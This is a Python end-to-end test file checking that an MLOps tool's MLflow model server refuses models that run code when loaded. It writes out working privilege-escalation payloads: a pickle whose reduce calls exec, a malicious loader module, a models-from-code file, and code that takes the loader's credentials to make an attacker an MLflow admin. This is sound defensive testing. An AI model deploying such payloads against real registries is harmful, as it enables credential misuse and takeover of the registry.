"""No code execution from the registry: the escalation of issue 10, run for real.

A real MLflow registry with basic auth (run from ModelRegistry's rendered command) has an admin
and a user with EDIT on one registered model and nothing else. The user registers a model whose
loading writes a marker file and asks the auth API, with the credentials of whoever loads it, to
make the user an admin (a pickle, on both of the server's loading paths; a loader module shipped
with the model; a models-from-code file), then moves `champion` to it. `mlops serve` is run from
the command and env ModelService renders (`plan_service`) with the registry's real URI and the
admin's credentials, as a deployment holding the admin's credentials runs it.
"""

from __future__ import annotations

import contextlib
import secrets
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import mlflow
import numpy as np
import pandas as pd
import pytest
import requests
from mlflow.exceptions import MlflowException
from mlflow.models import infer_signature
from mlflow.server.auth.client import AuthServiceClient
from mlflow.tracking import MlflowClient
from sklearn.datasets import load_breast_cancer
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer

import pulumi_mlops as mlops
from pulumi_mlops.local import run_job, run_workload
from pulumi_mlops.plans.service import ModelRef, ModelServiceArgs, plan_service
from pulumi_mlops.plans.workload import Workload
from pulumi_mlops.runtime.retrain.registry import trusted_types
from pulumi_mlops.runtime.serve.server import EXIT_LOAD_FAILED
from tests.e2e.ports import free_port
from tests.e2e.registry import Registry, registry_client
from tests.recording import RUNTIME_IMAGE

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

ALIAS = "champion"
PICKLE_ENV = "MLFLOW_ALLOW_PICKLE_DESERIALIZATION"
# A start that refuses the model (or runs the payload and then fails) exits in seconds; this
# only bounds a start that would hang.
START_TIMEOUT = 90
# Requirements stated, so that saving never loads the model in a subprocess to infer them
# (which would run the payload in the test).
REQUIREMENTS = ["scikit-learn", "skops"]


@pytest.fixture(scope="module")
def registry(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Registry]:
    """The registry; this process's MLflow client talks to it as the admin."""
    with registry_client(tmp_path_factory.mktemp("registry")) as running:
        mlflow.set_experiment("admin")
        yield running


@pytest.fixture(scope="module")
def auth(registry: Registry) -> AuthServiceClient:
    """MLflow's client of the auth API (credentials from the environment: the admin's)."""
    return AuthServiceClient(registry.url)


@pytest.fixture(scope="module")
def cancer() -> tuple[pd.DataFrame, pd.Series]:
    x, y = load_breast_cancer(return_X_y=True, as_frame=True)
    return x, y


@contextlib.contextmanager
def acting_as(username: str, password: str) -> Iterator[None]:
    """MLflow's client calls made inside authenticate as this user."""
    with pytest.MonkeyPatch.context() as monkeypatch:
        monkeypatch.setenv("MLFLOW_TRACKING_USERNAME", username)
        monkeypatch.setenv("MLFLOW_TRACKING_PASSWORD", password)
        yield


def register(path: Path, name: str) -> str:
    """Log the saved model directory in a run of the current experiment and register it as
    the next version of ``name`` (and point `champion` at it)."""
    with mlflow.start_run() as run:
        mlflow.log_artifacts(str(path), "model")
    version = str(mlflow.register_model(f"runs:/{run.info.run_id}/model", name).version)
    MlflowClient().set_registered_model_alias(name, ALIAS, version)
    return version


def rendered(registry: Registry, name: str, **inputs: Any) -> Workload:
    """The serving workload ModelService renders for ``models:/<name>@champion`` with the
    registry's real URI and the admin's credentials, the alias pinned as a preview pins it."""
    args = ModelServiceArgs(
        registry=mlops.RegistryEndpoint(tracking_uri=registry.url, username=registry.username,
                                        password=registry.password),
        target=mlops.DockerTarget(), model_uri=f"models:/{name}@{ALIAS}", port=free_port(),
        metrics_port=free_port(),
        image=RUNTIME_IMAGE, **inputs)
    version = mlops.registry_resolver(registry.url, environ=registry.env())(name, ALIAS)
    access = args.registry.access()
    plan = plan_service(name, args, {"stable": ModelRef(args.stable_uri(), name, version, ALIAS)},
                        tracking_uri=access.tracking_uri, username=access.username,
                        has_password=access.has_password)
    return plan.tracks[0].workload


def start(registry: Registry, workload: Workload, root: Path) -> subprocess.CompletedProcess[str]:
    """Run the rendered server until it exits (it is expected to fail loading)."""
    done: subprocess.CompletedProcess[str] = run_job(
        workload, {"tracking-password": registry.password}, root, timeout=START_TIMEOUT)
    return done


def payload_code(marker: Path, username: str) -> str:
    """What the registered model runs as it loads: mark that it ran, then make ``username`` an
    admin with the credentials in the environment of the process loading it."""
    return f"""
import base64, json, os, pathlib, urllib.request
pathlib.Path({str(marker)!r}).write_text("executed")
credentials = os.environ["MLFLOW_TRACKING_USERNAME"] + ":" + os.environ["MLFLOW_TRACKING_PASSWORD"]
request = urllib.request.Request(
    os.environ["MLFLOW_TRACKING_URI"].rstrip("/") + "/api/2.0/mlflow/users/update-admin",
    data=json.dumps({{"username": {username!r}, "is_admin": True}}).encode(), method="PATCH",
    headers={{"Content-Type": "application/json",
             "Authorization": "Basic " + base64.b64encode(credentials.encode()).decode()}})
urllib.request.urlopen(request, timeout=10).read()
raise RuntimeError("payload ran")  # and the load fails, so the server exits
"""


class Payload:
    """Pickled as a call of ``exec(code)``."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (self.code,)

    def predict(self, data: Any) -> Any:
        """Saved as a model only if it can predict (never called: it is never rebuilt)."""
        raise NotImplementedError


def sklearn_pickle(path: Path, code: str, signature: Any) -> None:
    """A scikit-learn flavor pickle. With a signature mlops serve deserializes the estimator
    itself (the fast path); without one, mlflow.pyfunc.load_model does (the general path)."""
    mlflow.sklearn.save_model(Payload(code), str(path), serialization_format="pickle",
                              pip_requirements=REQUIREMENTS, signature=signature)


def own_loader(path: Path, code: str, signature: Any) -> None:
    """A pyfunc model whose loader module is shipped with it (a code path)."""
    (path / "code").mkdir(parents=True)
    (path / "code" / "mallory_loader.py").write_text(code)
    (path / "MLmodel").write_text(
        "flavors:\n  python_function:\n    loader_module: mallory_loader\n"
        "    code: code\n    python_version: 3.11.0\n")


def models_from_code(path: Path, code: str, signature: Any) -> None:
    """A models-from-code pyfunc model: MLflow runs its Python file to build the model."""
    path.mkdir(parents=True)
    (path / "model.py").write_text(code)
    (path / "MLmodel").write_text(
        "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n"
        "    model_code_path: model.py\n    python_version: 3.11.0\n")


KINDS = {
    "sklearn-pickle-fast-path": (sklearn_pickle, True, "pickle-format model"),
    "sklearn-pickle-general-path": (sklearn_pickle, False, "pickle-format model"),
    "own-loader-module": (own_loader, False, "loader module 'mallory_loader'"),
    "models-from-code": (models_from_code, False, "models-from-code"),
}


@pytest.mark.parametrize("kind", KINDS)
def test_an_editor_s_model_cannot_make_them_admin_through_the_rendered_server(
        registry: Registry, auth: AuthServiceClient, cancer: tuple[pd.DataFrame, pd.Series],
        tmp_path: Path, kind: str) -> None:
    write, with_signature, refusal = KINDS[kind]
    x, y = cancer
    name, user, password = f"fraud-{kind}", f"mallory-{kind}", secrets.token_urlsafe(16)
    model = RandomForestClassifier(n_estimators=3, max_depth=2, random_state=0).fit(x, y)
    mlflow.sklearn.save_model(model, str(tmp_path / "v1"), serialization_format="skops",
                              skops_trusted_types=trusted_types(model),
                              pip_requirements=REQUIREMENTS)
    assert register(tmp_path / "v1", name) == "1"
    auth.create_user(user, password)
    auth.grant_user_permission(user, "registered_model", name, "EDIT")
    marker = tmp_path / "executed"

    with acting_as(user, password):
        # Alone, the user cannot make themself admin.
        with pytest.raises(MlflowException):
            auth.update_user_admin(user, True)
        mlflow.set_experiment(f"{user}-experiments")
        write(tmp_path / "v2", payload_code(marker, user),
              infer_signature(x, y.to_numpy()) if with_signature else None)
        assert register(tmp_path / "v2", name) == "2"
    assert not marker.exists()  # saving and registering never ran it
    assert not auth.get_user(user).is_admin

    workload = rendered(registry, name)
    assert workload.env[PICKLE_ENV] == "false"
    assert f"models:/{name}/2" in workload.command
    refused = start(registry, workload, tmp_path / "refused")

    output = refused.stdout + refused.stderr
    assert refused.returncode == EXIT_LOAD_FAILED, output
    [line] = [line for line in output.splitlines() if "allow_pickle" in line] or [output]
    assert PICKLE_ENV in line and refusal in line, line
    assert "Traceback" not in output
    assert not marker.exists()
    assert not auth.get_user(user).is_admin

    # The same start with the opt-in rendered runs the model's code, as every start did
    # before: what this test catches.
    opted_in = rendered(registry, name, allow_pickle=True)
    assert opted_in.env[PICKLE_ENV] == "true"
    start(registry, opted_in, tmp_path / "opted-in")
    assert marker.read_text() == "executed"
    assert auth.get_user(user).is_admin


def test_a_skops_model_trusting_a_function_is_refused_by_default(
        registry: Registry, cancer: tuple[pd.DataFrame, pd.Series], tmp_path: Path) -> None:
    # skops constructs what the model's own MLmodel says to trust: a model may trust a function
    # that runs code. MLflow refuses every skops model without the opt-in for that reason;
    # mlops serve trusts only scikit-learn classes.
    x, y = cancer
    model = Pipeline([("code", FunctionTransformer(func=exec)),
                      ("model", LogisticRegression(max_iter=5000).fit(x, y))])
    mlflow.sklearn.save_model(model, str(tmp_path / "model"), serialization_format="skops",
                              skops_trusted_types=trusted_types(model),
                              pip_requirements=REQUIREMENTS)
    assert "builtins.exec" in trusted_types(model)
    register(tmp_path / "model", "transformer")

    refused = start(registry, rendered(registry, "transformer"), tmp_path / "refused")

    output = refused.stdout + refused.stderr
    assert refused.returncode == EXIT_LOAD_FAILED, output
    [line] = [line for line in output.splitlines() if "allow_pickle" in line]
    assert "'builtins.exec'" in line and "only scikit-learn classes are trusted" in line
    assert "Traceback" not in output


def test_a_retrained_skops_model_serves_on_both_paths_with_the_rendered_default(
        registry: Registry, cancer: tuple[pd.DataFrame, pd.Series], tmp_path: Path) -> None:
    # Saved as `mlops retrain` saves it: skops, recording the types beyond skops' defaults
    # that it is made of (a forest needs scikit-learn's Tree).
    x, y = cancer
    model = RandomForestClassifier(n_estimators=3, max_depth=2, random_state=0).fit(x, y)
    assert trusted_types(model) == ["sklearn.tree._tree.Tree"]
    mlflow.sklearn.save_model(model, str(tmp_path / "model"), serialization_format="skops",
                              skops_trusted_types=trusted_types(model),
                              signature=infer_signature(x, model.predict(x)),
                              pip_requirements=REQUIREMENTS)
    register(tmp_path / "model", "cancer")
    workload = rendered(registry, "cancer")
    assert workload.env[PICKLE_ENV] == "false"
    rows = x.head(5)
    expected = model.predict(rows).tolist()

    with run_workload(workload, {"tracking-password": registry.password}, tmp_path / "serve",
                      timeout=120) as running:
        # Plain numbers take the fast path; CSV takes the general path (MLflow's pyfunc).
        fast = requests.post(running.url + "/invocations", timeout=30, json={
            "dataframe_split": {"columns": list(rows.columns), "data": rows.values.tolist()}})
        general = requests.post(running.url + "/invocations", timeout=30,
                                data=rows.to_csv(index=False),
                                headers={"Content-Type": "text/csv"})
        log = running.log()

    assert fast.status_code == 200, fast.text
    assert general.status_code == 200, general.text
    assert fast.json()["predictions"] == expected
    assert np.asarray(general.json()["predictions"]).tolist() == expected
    assert "fast path True" in log
    assert "general path (MLflow's pyfunc model) loaded" in log
